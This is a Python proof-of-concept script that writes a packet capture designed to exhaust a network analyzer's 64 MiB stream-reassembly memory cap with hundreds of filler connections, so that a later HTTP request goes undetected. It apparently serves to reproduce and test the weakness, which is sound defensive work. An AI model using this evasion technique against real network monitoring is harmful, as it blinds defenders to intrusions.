#!/usr/bin/python3
"""cap_blind.py OUT.pcap [N] [narrow] - N (default 520) connections, kept open, each
opening with one 20,000-byte segment (over FLOW_SEG_WIRE_MAX and over the 16 KiB
window: the direction widens to 132 KiB, flow.c stream_add) and then 112 KiB more of
bytes no analyzer claims; then a plain HTTP request on a new connection. 520 x 132 KiB
fill stream_total_max (64 MiB) and the request is not seen.
With "narrow": the same bytes in 1,448-byte segments (no widening): it then takes
N = 4,200 connections of 16 KiB each (the weakness predates the widening; the
widening cuts the number of connections by 8)."""
import sys
from pcapgen import Pcap, Conn
out = sys.argv[1]; n = int(sys.argv[2]) if len(sys.argv) > 2 else 520
narrow = len(sys.argv) > 3 and sys.argv[3] == "narrow"
p = Pcap(out)
for i in range(n):
    c = Conn(p, "10.0.%d.10" % (i // 4000), 20000 + i % 4000, "10.0.1.%d" % (1 + i % 200), 9000)
    if narrow:
        c.send(b"Z" * 16500, mss=1448)
    else:
        c.send(b"Z" * 20000, mss=20000)
        c.send(b"Z" * (132 * 1024 - 20000 - 100), mss=1448)
v = Conn(p, "10.0.9.10", 45000, "10.0.2.1", 80)
v.send(b"GET /after-the-cap-is-full HTTP/1.1\r\nHost: www.hidden.test\r\n\r\n")
v.recv(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
v.fin()
p.close()
